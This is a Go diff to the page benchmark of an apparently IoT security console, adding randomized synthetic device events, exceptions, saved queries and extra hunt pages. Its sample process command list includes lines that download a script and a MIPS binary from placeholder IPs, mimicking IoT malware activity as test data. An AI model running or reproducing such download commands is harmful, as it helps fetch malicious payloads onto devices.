@@ -4,6 +4,7 @@ import (
 	"context"
 	"fmt"
 	"log/slog"
+	"math/rand/v2"
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
@@ -20,6 +21,7 @@ import (
 	"github.com/vigil-iot/vigil/auth"
 	"github.com/vigil-iot/vigil/hunt"
 	"github.com/vigil-iot/vigil/investigate"
+	"github.com/vigil-iot/vigil/store"
 	"github.com/vigil-iot/vigil/store/sqlite"
 	"github.com/vigil-iot/vigil/web"
 )
@@ -27,7 +29,7 @@ import (
 // Size of the benchmark's data: 10,000 devices, and events as given by
 // VIGIL_BENCH_EVENTS (default 200,000; the figures in docs/benchmarks.md
 // were taken with 10,000,000). VIGIL_BENCH_DIR keeps the database between
-// runs (filling 10 million events takes minutes).
+// runs (filling 10 million events takes half an hour or more).
 const (
 	benchDevices   = 10000
 	benchAlerts    = 20000
@@ -62,21 +64,65 @@ func benchStore(b *testing.B) *sqlite.Store {
 	if err != nil {
 		b.Fatal(err)
 	}
-	for n := int(have); n < events; n += 5000 {
-		batch := make([]vigil.Event, min(5000, events-n))
-		for i := range batch {
-			k := n + i
-			batch[i] = vigil.Event{ID: fmt.Sprintf("ev-%09d", k), Time: benchNow.Add(-time.Duration(events-k) * 10 * time.Millisecond),
-				DeviceID: fmt.Sprintf("dev-%05d", k%benchDevices), Source: "agent", Kind: vigil.KindAuth, Category: "authentication",
-				Action: "login", Outcome: vigil.OutcomeFailure, Severity: vigil.SeverityLow,
-				Network: &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{10, 1, byte(k >> 8), byte(k)}), SrcPort: 40000, DstIP: netip.MustParseAddr("10.0.0.7"), DstPort: 22},
-				Fields:  map[string]any{"user.name": "root", "process.name": "sshd"}}
-		}
-		if err := st.PutEvents(ctx, batch); err != nil {
+	start := time.Now()
+	for n := int(have); n < events; n += benchBatch {
+		if err := st.PutEvents(ctx, benchEvents(n, min(benchBatch, events-n), events)); err != nil {
 			b.Fatal(err)
 		}
+		if (n/benchBatch)%100 == 99 {
+			b.Logf("stored %d of %d events (%s)", n+benchBatch, events, time.Since(start).Round(time.Second))
+		}
+	}
+	if int(have) < events {
+		b.Logf("stored %d events in %s", events-int(have), time.Since(start).Round(time.Second))
 	}
 	return st
+}
+
+// benchBatch is how many events one PutEvents of the fill stores.
+const benchBatch = 10000
+
+var benchCmds = []string{"/usr/sbin/sshd -D", "/bin/busybox telnetd", "curl -s http://203.0.113.7/x.sh", "python3 /opt/app/main.py",
+	"/usr/bin/mosquitto -c /etc/mosquitto.conf", "wget http://198.51.100.4/bins/mips", "nginx: worker process"}
+
+// benchEvents makes n of the total events from number i on: the last 24
+// hours before benchNow of the 10,000 devices, evenly spaced (10 million
+// events is one event per device every 86 s, a fleet's day), a mix of
+// processes, logins (one in two failed), connections and health samples
+// of about 10 fields each.
+func benchEvents(i, n, total int) []vigil.Event {
+	r := rand.New(rand.NewPCG(uint64(i), 7))
+	step := 24 * time.Hour / time.Duration(total)
+	out := make([]vigil.Event, n)
+	for j := range out {
+		k := i + j
+		e := vigil.Event{ID: fmt.Sprintf("ev-%09d", k), Time: benchNow.Add(-time.Duration(total-k) * step), DeviceID: fmt.Sprintf("dev-%05d", r.IntN(benchDevices)),
+			Source: "agent", Fields: map[string]any{"host.name": "h", "agent.version": "1.4.2"}}
+		switch r.IntN(4) {
+		case 0:
+			e.Kind, e.Category, e.Action = vigil.KindProcess, "process", "exec"
+			e.Fields["process.command_line"] = benchCmds[r.IntN(len(benchCmds))] + " " + strconv.Itoa(r.IntN(1000))
+			e.Fields["process.pid"] = float64(r.IntN(30000))
+			e.Fields["process.name"] = "p" + strconv.Itoa(r.IntN(50))
+			e.Fields["user.name"] = []string{"root", "pi", "admin"}[r.IntN(3)]
+		case 1:
+			e.Kind, e.Category, e.Action = vigil.KindAuth, "authentication", "login"
+			e.Outcome = []string{vigil.OutcomeSuccess, vigil.OutcomeFailure}[r.IntN(2)]
+			e.Fields["user.name"] = []string{"root", "pi", "admin", "support", "guest"}[r.IntN(5)]
+			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{10, byte(r.IntN(4)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: 22}
+		case 2:
+			e.Kind, e.Category, e.Action = vigil.KindNetwork, "network", "connect"
+			e.Network = &vigil.Network{Transport: "tcp", SrcIP: netip.AddrFrom4([4]byte{192, 168, 1, byte(r.IntN(256))}), SrcPort: uint16(30000 + r.IntN(30000)),
+				DstIP: netip.AddrFrom4([4]byte{byte(r.IntN(224)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))}), DstPort: uint16([]int{443, 1883, 8883, 80, 23}[r.IntN(5)])}
+		default:
+			e.Kind, e.Action = vigil.KindHealth, "sample"
+			e.Fields["host.cpu.pct"] = float64(r.IntN(100))
+			e.Fields["host.mem.pct"] = float64(r.IntN(100))
+			e.Fields["host.temp.c"] = float64(30 + r.IntN(50))
+		}
+		out[j] = e
+	}
+	return out
 }
 
 func fillBench(b *testing.B, st *sqlite.Store) {
@@ -152,7 +198,12 @@ func fillBench(b *testing.B, st *sqlite.Store) {
 // audit records and the events of VIGIL_BENCH_EVENTS. devices-cold reads
 // the inventory index again on every view (it is cached 15 s).
 //
-//	VIGIL_BENCH_DIR=/tmp/vb VIGIL_BENCH_EVENTS=10000000 go test -run '^$' -bench BenchmarkPages -benchtime 50x ./console/
+//	go test -c -o /tmp/console.test ./console/
+//	VIGIL_BENCH_DIR=/tmp/vb VIGIL_BENCH_EVENTS=10000000 \
+//	  nice /tmp/console.test -test.run '^$' -test.bench BenchmarkPages -test.benchtime 5x -test.timeout 2h
+//
+// (docs/benchmarks.md, "Web console"; the first run fills and seals the
+// 10 million events, about 50 minutes on a loaded machine).
 func BenchmarkPages(b *testing.B) {
 	st := benchStore(b)
 	dir := b.TempDir()
@@ -171,7 +222,26 @@ func BenchmarkPages(b *testing.B) {
 	} else if _, err := hunt.Seal(context.Background(), st, m); err != nil {
 		b.Fatal(err)
 	}
-	extra := append(UserRoutes(st, clk), web.HuntRoutes(&web.Hunt{Src: st, Clock: clk})...)
+	// 100 exceptions and 30 saved queries (puts replace: idempotent on a
+	// kept database).
+	for i := range 100 {
+		x := vigil.Exception{ID: fmt.Sprintf("exc-%03d", i), RuleID: fmt.Sprintf("rule-%d", i%40), DeviceID: fmt.Sprintf("dev-%05d", i*97),
+			Expires: benchNow.Add(time.Duration(i-20) * 24 * time.Hour), Reason: "maintenance window", Author: "user:ana", Created: benchNow.Add(-48 * time.Hour)}
+		if err := st.PutException(context.Background(), x); err != nil {
+			b.Fatal(err)
+		}
+	}
+	for i := range 30 {
+		q := store.SavedQuery{Name: fmt.Sprintf("query %d", i), Query: fmt.Sprintf("device.id=dev-%05d | stats count by event.kind", i), Author: "token:bench",
+			Shared: i%2 == 0, Created: benchNow.Add(-time.Hour)}
+		if err := st.PutSavedQuery(context.Background(), q); err != nil {
+			b.Fatal(err)
+		}
+	}
+	hunter := &web.Hunt{Src: st, Clock: clk}
+	extra := append(UserRoutes(st, clk), web.HuntRoutes(hunter)...)
+	extra = append(extra, web.SavedQueryRoutes(web.SavedQueriesAPI{Store: st, Clock: clk})...)
+	extra = append(extra, web.ExceptionRoutes(web.ExceptionsAPI{Store: st, Clock: clk})...)
 	extra = append(extra, web.InvestigationRoutes(web.Investigation{Investigator: investigate.New(investigate.Options{Store: st, Clock: clk}), Clock: clk})...)
 	srv, err := web.NewServer(web.Options{Store: st, Tokens: toks, Clock: clk, Extra: extra})
 	if err != nil {
@@ -219,8 +289,12 @@ func BenchmarkPages(b *testing.B) {
 		{"alerts", "/alerts"}, {"alerts-device", "/alerts?device=dev-00042"}, {"alert", "/alerts/al-000123"},
 		{"incidents", "/incidents"}, {"incidents-open", "/incidents?status=open"}, {"incident", "/incidents/inc-00010"},
 		{"actions", "/actions"}, {"rules", "/rules"}, {"intel", "/intel"}, {"audit", "/audit"}, {"settings", "/settings"},
+		{"exceptions", "/exceptions"}, {"hunt", "/hunt"},
 		{"hunt-stats", "/hunt?" + url.Values{"q": {"| stats count by event.outcome, event.action"}}.Encode()},
+		{"hunt-stats-1h", "/hunt?" + url.Values{"q": {"earliest=-1h event.outcome=failure | stats count by device.id | sort -count | head 10"}}.Encode()},
 		{"hunt-events", "/hunt?" + url.Values{"q": {"event.outcome=failure device.id=dev-0004*"}}.Encode()},
+		{"hunt-events-root", "/hunt?" + url.Values{"q": {"event.outcome=failure user.name=root"}}.Encode()},
+		{"hunt-events-device", "/hunt?" + url.Values{"q": {"device.id=dev-00042 event.kind=process"}}.Encode()},
 		{"report", "/incidents/inc-00010/report"},
 	}
 	for _, p := range pages {
@@ -228,6 +302,23 @@ func BenchmarkPages(b *testing.B) {
 			get(p.path, session) // warm: the device index, SQLite's cache
 			cpu0 := cpuTime()
 			for b.Loop() {
+				if w := get(p.path, session); w.Code != http.StatusOK {
+					b.Fatalf("GET %s: %d %.300s", p.path, w.Code, w.Body)
+				}
+			}
+			reportCPU(b, cpu0)
+		})
+	}
+	// A hunt's first run: nothing of the store kept in memory by the
+	// hunt cache (the columns and the unsealed tail are read again).
+	for _, p := range pages {
+		if !strings.HasPrefix(p.name, "hunt-") {
+			continue
+		}
+		b.Run(p.name+"-cold", func(b *testing.B) {
+			cpu0 := cpuTime()
+			for b.Loop() {
+				hunter.Cache = hunt.NewCacheAt(0, clk.Now)
 				if w := get(p.path, session); w.Code != http.StatusOK {
 					b.Fatalf("GET %s: %d %.300s", p.path, w.Code, w.Body)
 				}
